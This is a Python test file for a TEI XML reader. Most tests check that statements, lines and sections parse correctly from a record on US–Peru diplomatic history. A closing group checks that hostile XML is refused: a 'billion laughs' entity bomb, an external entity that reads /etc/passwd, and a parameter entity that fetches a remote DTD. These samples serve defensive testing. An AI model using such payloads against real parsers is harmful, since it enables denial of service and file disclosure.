"""The TEI XML reader: statements and their lines, and refusal of malformed or hostile XML."""

from __future__ import annotations

import pytest
from documents import RECORD

from helpers.build.dates import find_dates
from helpers.build.pipeline import build
from helpers.build.tei import read_tei
from helpers.core import paths
from helpers.core.exceptions import SourceError


def _lines(text: str) -> list[str]:
    return text.splitlines()


@pytest.fixture(scope="module")
def record():
    return read_tei((paths.RAW / RECORD).read_text(encoding="utf-8").splitlines(), RECORD)


# ---------------------------------------------------------------- the record's own statements


def test_every_head_and_paragraph_sentence_of_the_record_is_a_statement_at_its_line(record):
    got = [(s.line, s.kind, s.text[:40]) for s in record.statements]
    assert got[:3] == [
        (20, "heading", "Summary"),
        (22, "prose", "Peru and the United States first establi"),
        (24, "prose", "The area that became the Republic of Per"),
    ]
    assert (38, "heading", "United States Recognition of Peru, 1826.") in got
    assert (68, "prose", "Diplomatic relations and the American Le") in got
    assert got[-1] == (91, "heading", "Resources")
    assert len(got) == 25


def test_a_statement_starts_at_the_line_of_its_first_word(record):
    lines = (paths.RAW / RECORD).read_text(encoding="utf-8").splitlines()
    for st in record.statements:
        first_word = st.text.split()[0]
        assert first_word in lines[st.line - 1], (st.line, st.text)


def test_initials_do_not_end_a_sentence(record):
    texts = {s.text for s in record.statements}
    assert ("The United States recognized the Peru-Bolivian Confederation on March 16, 1837 by "
            "the appointment of James B. Thornton as Chargé d’Affaires.") in texts
    assert any(t.startswith("The Legation at Lima was raised") and t.endswith(
        "William E. Gonzales presented his credentials to the Peruvian Government.")
        for t in texts)


def test_headings_carry_their_inline_date_and_sections_their_title(record):
    by_line = {s.line: s for s in record.statements}
    assert by_line[65].text == ("Establishment of Diplomatic Relations and the American Legation "
                                "in Lima, 1827.")
    assert by_line[68].section == "Diplomatic Relations"
    assert by_line[40].section == "Recognition"
    assert by_line[33].text == "Modern Flag of Peru"  # a figure caption titles nothing
    assert by_line[36].section == "Summary"


def test_the_tei_header_is_metadata_not_statements(record):
    assert not any("Tiffany Hamelin" in s.text or "Department of State, 2008" in s.text
                   for s in record.statements)


def test_a_month_written_with_a_comma_keeps_its_month(record):
    (st,) = [s for s in record.statements if s.text.startswith("He did not present")]
    assert [d.iso for d in find_dates(st.text)] == ["1840-01"]


# ---------------------------------------------------------------- lines, on a small record

SMALL = """<TEI xmlns="http://www.tei-c.org/ns/1.0">
  <teiHeader><fileDesc><publicationStmt><p>Publisher, 2001</p></publicationStmt>
  </fileDesc></teiHeader>
  <text>
    <body>
      <div type="section">
        <head>Consular Relations</head>
        <div type="timeline">
          <head>Opening of the Consulate in <placeName>Arica</placeName>, <date
              when="1901">1901</date>.</head>
          <p>
            The consulate opened on
            June 3, 1901. A vice-consul
            followed in 1904. <!-- a comment --> Nothing
            else is recorded.</p>
        </div>
      </div>
    </body>
  </text>
</TEI>"""


def test_lines_of_headings_and_sentences_in_a_small_record():
    doc = read_tei(_lines(SMALL), "small.xml")
    assert [(s.line, s.sentence, s.kind, s.section, s.text) for s in doc.statements] == [
        (7, 1, "heading", "", "Consular Relations"),
        (9, 1, "heading", "Consular Relations", "Opening of the Consulate in Arica, 1901."),
        (12, 1, "prose", "Consular Relations", "The consulate opened on June 3, 1901."),
        (13, 1, "prose", "Consular Relations", "A vice-consul followed in 1904."),
        (14, 1, "prose", "Consular Relations", "Nothing else is recorded."),
    ]


def test_entities_of_xml_itself_are_read():
    text = SMALL.replace("Nothing\n", "Nothing &amp; nobody\n")
    doc = read_tei(_lines(text), "small.xml")
    assert doc.statements[-1].text == "Nothing & nobody else is recorded."


# ---------------------------------------------------------------- refusals


def _refusal(text: str) -> SourceError:
    with pytest.raises(SourceError) as info:
        read_tei(_lines(text), "bad.xml")
    return info.value


def test_a_file_that_is_not_well_formed_is_refused_with_its_line():
    error = _refusal(SMALL.replace("</p>\n        </div>", "</div>\n        </div>"))
    assert (error.file, error.line) == ("bad.xml", 15)
    assert str(error).startswith("bad.xml:15: not well-formed XML: mismatched tag")


def test_an_undefined_entity_is_refused_with_its_line():
    error = _refusal(SMALL.replace("A vice-consul", "A&nbsp;vice-consul"))
    assert error.line == 13 and "undefined entity" in str(error)


def test_text_that_is_not_xml_at_all_is_refused():
    error = _refusal("U.S. Relations With Peru\n\nA fact sheet, not XML.")
    assert error.line == 1 and "not well-formed XML" in str(error)


BOMB = """<?xml version="1.0"?>
<!DOCTYPE TEI [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<TEI><text><body><p>&lol9;</p></body></text></TEI>"""


def test_an_entity_expansion_bomb_is_refused_at_its_first_entity():
    error = _refusal(BOMB)
    assert error.line == 3
    assert "refused unsafe XML: it declares the entity 'lol'" in str(error)
    assert "billion laughs" in str(error)


def test_an_external_entity_is_refused():
    text = ('<?xml version="1.0"?>\n<!DOCTYPE TEI [\n'
            '  <!ENTITY secret SYSTEM "file:///etc/passwd">\n]>\n'
            "<TEI><text><body><p>&secret;</p></body></text></TEI>")
    error = _refusal(text)
    assert error.line == 3 and "'secret'" in str(error)


def test_an_external_parameter_entity_is_refused_and_an_external_dtd_never_fetched():
    text = ('<?xml version="1.0"?>\n<!DOCTYPE TEI [\n'
            '<!ENTITY % remote SYSTEM "http://example.org/evil.dtd">\n%remote;\n]>\n'
            "<TEI><text><body><p>A 1900.</p></body></text></TEI>")
    assert _refusal(text).line == 3
    plain = ('<?xml version="1.0"?>\n<!DOCTYPE TEI SYSTEM "http://example.org/tei.dtd">\n'
             "<TEI><text><body><p>Read without the DTD.</p></body></text></TEI>")
    (st,) = read_tei(_lines(plain), "dtd.xml").statements
    assert (st.line, st.text) == (3, "Read without the DTD.")


def test_a_record_without_statements_is_refused():
    error = _refusal('<TEI xmlns="http://www.tei-c.org/ns/1.0"><teiHeader><fileDesc>'
                     "<publicationStmt><p>Only metadata</p></publicationStmt></fileDesc>"
                     "</teiHeader></TEI>")
    assert "holds no <head> or <p> inside a TEI <text> element" in str(error)


def test_the_build_refuses_a_bomb_in_the_raw_folder_with_file_and_line(raw_copy, tmp_path):
    raw_copy.write(RECORD, BOMB.encode("utf-8"))
    with pytest.raises(SourceError) as info:
        build(raw=raw_copy.folder, out=tmp_path / "out")
    assert str(info.value).startswith(f"{RECORD}:3: refused unsafe XML")
    assert not (tmp_path / "out").exists()
